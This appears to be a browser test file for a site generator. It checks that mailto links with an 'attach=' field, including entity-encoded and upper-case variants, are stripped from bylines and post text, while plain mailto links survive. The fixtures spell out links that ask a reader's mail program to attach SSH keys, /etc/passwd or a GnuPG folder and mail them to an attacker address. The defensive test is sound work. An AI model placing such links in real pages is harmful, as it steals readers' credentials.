// A post's author may be given a mail address as their link. Mail programs honour fields of a
// mailto link beyond those that fill in a message: `attach=` had Evolution, KMail and older
// Thunderbirds attach a file of the reader's to the message a click on the page opened.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ownSite } from './own-site.ts';

const site = ownSite('mail-links', (content) => {
  writeFileSync(
    join(content, 'posts', 'attach.md'),
    '---\ntitle: Notes from the day\ndate: 2016-06-06\nauthor:\n  name: Mallory\n  url: "mailto:mallory@example.org?subject=Hi&attach=/home/reader/.ssh/id_rsa"\n---\n\nA day of talks.\n',
  );
  writeFileSync(
    join(content, 'posts', 'plain.md'),
    '---\ntitle: More notes\ndate: 2016-06-07\nauthor:\n  name: Alice\n  url: "mailto:alice@example.org?subject=Your%20notes"\n---\n\nAnother day of talks.\n',
  );
  writeFileSync(
    join(content, 'posts', 'body.md'),
    '---\ntitle: Write to me\ndate: 2016-06-08\n---\n\n' +
      '[Ask me](mailto:mallory@example.org?subject=Hi&attach=/home/reader/.ssh/id_rsa), ' +
      '<a href="mailto:mallory@example.org?&#x61;ttach=/etc/passwd">or here</a>, ' +
      '<a href="mailto:mallory@example.org?subject=Hi&amp;ATTACHMENT=~/.gnupg">or there</a>, ' +
      'or [write](mailto:alice@example.org?subject=Notes&body=Thanks).\n',
  );
});

const bylineLinks = async (path: string) => {
  const page = await site.browser.context.newPage();
  await page.goto(new URL(path, site.server.origin).href, { waitUntil: 'load' });
  const links = await page
    .locator('article header .meta a')
    .evaluateAll((all) => all.map((a) => (a as HTMLAnchorElement).href));
  await page.close();
  return links;
};

describe("an author's mail link", () => {
  it('is not a link when it asks the mail program to attach a file', async () => {
    expect(await bylineLinks('/posts/attach/')).toEqual([]);
  });

  it('is one when it only fills in a message', async () => {
    expect(await bylineLinks('/posts/plain/')).toEqual([
      'mailto:alice@example.org?subject=Your%20notes',
    ]);
  });

  it("of a post's text loses its address when it asks to attach a file, and keeps its words", async () => {
    const page = await site.browser.context.newPage();
    await page.goto(new URL('/posts/body/', site.server.origin).href, { waitUntil: 'load' });
    const links = await page
      .locator('.prose a')
      .evaluateAll((all) => all.map((a) => [a.textContent, a.getAttribute('href')]));
    await page.close();
    expect(links).toEqual([
      ['Ask me', null],
      ['or here', null],
      ['or there', null],
      ['write', 'mailto:alice@example.org?subject=Notes&body=Thanks'],
    ]);
  });
});
